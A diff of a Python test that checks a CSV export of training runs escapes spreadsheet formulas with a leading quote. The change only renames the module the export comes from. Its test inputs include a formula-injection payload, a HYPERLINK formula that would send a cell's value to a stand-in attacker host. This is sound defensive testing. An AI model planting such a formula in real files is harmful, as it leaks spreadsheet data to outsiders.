@@ -442,14 +442,14 @@ def test_a_value_nested_deep_but_readable_is_refused_in_a_short_line(tmp_path):
     "formula", ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1"]
 )
 def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(tmp_path, two_runs, formula):
-    from cifarcli import runs, stages, views
+    from cifarcli import runs, runs_table, stages
 
     in_workspace(tmp_path, two_runs)
     result = runs.list_runs(stages.Workspace(tmp_path / "cache"))
     first, second = result["runs"]
     first["created"], second["settings"]["split"] = formula, formula
     first["val_acc"] = -0.5  # a number, not text: it stays a number
-    rows = list(csv.DictReader(io.StringIO(views.runs_csv(result), newline="")))
+    rows = list(csv.DictReader(io.StringIO(runs_table.runs_csv(result), newline="")))
     assert rows[0]["created"] == "'" + formula and rows[1]["split"] == "'" + formula
     assert rows[0]["val_acc"] == "-0.5"
     assert [r["run_id"] for r in rows] == [first["run_id"], second["run_id"]]
